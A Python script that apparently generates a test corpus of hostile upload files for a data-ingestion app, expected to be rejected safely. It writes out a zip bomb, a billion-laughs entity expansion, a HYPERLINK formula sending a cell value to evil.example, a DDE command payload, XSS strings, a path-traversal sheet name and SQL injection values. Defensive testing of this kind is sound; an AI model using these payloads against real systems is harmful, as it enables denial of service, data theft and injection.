"""Build the corpus of hostile files in tests/hostile/files/ (kept in git; run again to rebuild).

`python tests/hostile/make_hostile.py`. Each file must be rejected with a clear message (or, for the
markup-in-names files, loaded with the markup shown as text), never crash, hang or change stored data.
"""

from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent / "files"
HEADER = "area_code,month,metric,value\n"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def workbook(sheet_name: str = "Sheet1") -> str:
    from xml.sax.saxutils import quoteattr

    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<sheets><sheet name={quoteattr(sheet_name)} sheetId="1" r:id="rId1"/></sheets></workbook>'
    )


def sheet(rows: list[list[str]], inner: str = "") -> str:
    from xml.sax.saxutils import escape

    body = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(
            f'<c r="{chr(65 + c)}{r}" t="inlineStr"><is><t>{escape(v)}</t></is></c>'
            for c, v in enumerate(row)
        )
        body.append(f'<row r="{r}">{cells}</row>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(body)}</sheetData>{inner}</worksheet>"
    )


def xlsx(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, data in parts.items():
            z.writestr(name, data, compress_type=compression, compresslevel=9)
    return out.getvalue()


def standard(sheet_xml: str, sheet_name: str = "Sheet1") -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": workbook(sheet_name),
        "xl/_rels/workbook.xml.rels": WB_RELS,
        "xl/worksheets/sheet1.xml": sheet_xml,
    }


GOOD_ROWS = [["area_code", "month", "metric", "value"], ["E23000014", "2024-07", "referrals", "41"]]


def zip_bomb() -> bytes:
    """A workbook whose sheet unpacks to 300 MB of XML from about 300 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in standard(sheet(GOOD_ROWS)).items():
            if name != "xl/worksheets/sheet1.xml":
                z.writestr(name, data)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as handle:
            handle.write(sheet(GOOD_ROWS)[: -len("</worksheet>")].encode())
            chunk = b"<!--" + b" " * (1024 * 1024 - 7) + b"-->"
            for _ in range(300):
                handle.write(chunk)
            handle.write(b"</worksheet>")
    return out.getvalue()


def files() -> dict[str, bytes]:
    rng = random.Random(6)
    found: dict[str, bytes] = {}
    for i in range(4):
        found[f"random_{i}.csv"] = rng.randbytes(rng.randrange(1, 5000))
        found[f"random_{i}.xlsx"] = b"PK\x03\x04" + rng.randbytes(rng.randrange(1, 5000))
        found[f"random_{i}.parquet"] = b"PAR1" + rng.randbytes(rng.randrange(1, 5000)) + b"PAR1"
    good = xlsx(standard(sheet(GOOD_ROWS)))
    for cut in (10, len(good) // 3, len(good) // 2, len(good) - 20):
        found[f"truncated_at_{cut}.xlsx"] = good[:cut]
    found["huge_field.csv"] = (HEADER + "E23000014,2024-07,referrals," + "9" * 5_000_000 + "\n").encode()
    found["huge_area_name.csv"] = (HEADER + "X" * 2_000_000 + ",2024-07,referrals,1\n").encode()
    found["many_columns.csv"] = (
        ",".join(f"c{i}" for i in range(20_000)) + "\n" + ",".join("1" * 20_000) + "\n"
    ).encode()
    found["deep_nesting.xlsx"] = xlsx(standard(sheet(GOOD_ROWS, "<x>" * 50_000 + "</x>" * 50_000)))
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{"&lol{}; ".format(i - 1 if i > 1 else "") * 10}">' for i in range(1, 10)
        )
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    found["billion_laughs.xlsx"] = xlsx(standard(laughs))
    found["zip_bomb.xlsx"] = zip_bomb()
    formula = sheet(GOOD_ROWS).replace(
        '<c r="D2" t="inlineStr"><is><t>41</t></is></c>',
        '<c r="D2"><f>HYPERLINK("http://evil.example/?"&amp;A2,"click")</f><v>41</v></c>',
    )
    found["formula_cells.xlsx"] = xlsx(standard(formula))
    found["dde_formula.csv"] = (HEADER + "E23000014,2024-07,referrals,\"=cmd|' /C calc'!A0\"\n").encode()
    script = "<script>alert('area')</script>"
    found["script_in_area_names.csv"] = (
        HEADER + f'"{script}",2024-07,referrals,4\n"<img src=x onerror=alert(1)>",2024-08,referrals,5\n'
    ).encode()
    found["<script>alert('file')<\u2044script>.csv"] = (HEADER + "E23000014,2024-07,referrals,41\n").encode()
    found["script_in_sheet_name.xlsx"] = xlsx(standard(sheet(GOOD_ROWS), "<b onmouseover=alert(1)>x</b>"))
    found["path_in_sheet_name.xlsx"] = xlsx(standard(sheet(GOOD_ROWS), "../../../etc/passwd"))
    found["sql_in_values.csv"] = (
        HEADER + '"E23000014\'; DROP TABLE metric_values; --",2024-07,referrals,41\n'
        "E23000014,2024-07,\"referrals' OR '1'='1\",41\n"
    ).encode()
    found["nul_and_controls.csv"] = (HEADER + "E23000014\x00,2024-07,referrals\x1b[31m,41\n").encode()
    found["bom_and_rtl.csv"] = ("\ufeff" + HEADER + "E23000014\u202e,2024-07,referrals,41\n").encode()
    return found


def safe_name(name: str) -> str:
    return name.replace("/", "\u2044")


KEPT_BYTES = 400_000  # bigger ones (huge fields) are made in memory by the test, not kept in git


if __name__ == "__main__":
    HERE.mkdir(parents=True, exist_ok=True)
    for old in HERE.iterdir():
        old.unlink()
    kept = {name: data for name, data in files().items() if len(data) <= KEPT_BYTES}
    for name, data in kept.items():
        (HERE / safe_name(name)).write_bytes(data)
    print(f"{len(kept)} files in {HERE}")
